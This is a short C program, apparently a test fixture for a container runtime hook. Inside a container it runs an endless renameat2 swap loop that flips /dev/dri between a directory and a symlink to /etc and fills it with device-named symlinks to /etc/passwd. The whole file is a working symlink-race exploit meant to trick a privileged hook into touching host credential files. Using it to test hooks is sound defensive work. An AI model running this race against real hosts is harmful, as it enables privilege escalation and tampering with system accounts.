/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A container's root that will not hold still: /dev/dri is in turn a directory and a link to
 * /etc, and what is in the directory links to /etc/passwd, while the hook works there.
 *
 *   race    until it is killed
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define EXCHANGE 2 /* RENAME_EXCHANGE, renameat2(2); musl has no kernel headers */

static void swap(const char *a, const char *b)
{
	(void)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, EXCHANGE);
}

int main(void)
{
	int unused = 0;

	if (chdir("/dev") < 0)
		return 1;
	unused |= mkdir("dri", 0755);
	unused |= symlink("/etc", "trap");
	unused |= symlink("/etc/passwd", "bait");
	for (;;) {
		swap("dri", "trap");
		swap("dri", "trap");
		unused |= rename("bait", "dri/renderD128");
		unused |= symlink("/etc/passwd", "bait");
		unused |= rename("bait", "dri/card0");
		unused |= symlink("/etc/passwd", "bait");
		swap("dri", "trap");
		unused |= unlink("trap/renderD128");
		unused |= unlink("trap/card0");
		swap("dri", "trap");
		unused |= unlink("dri/renderD128");
		unused |= unlink("dri/card0");
		unused |= mkdir("dri", 0755);
	}
	return unused;
}
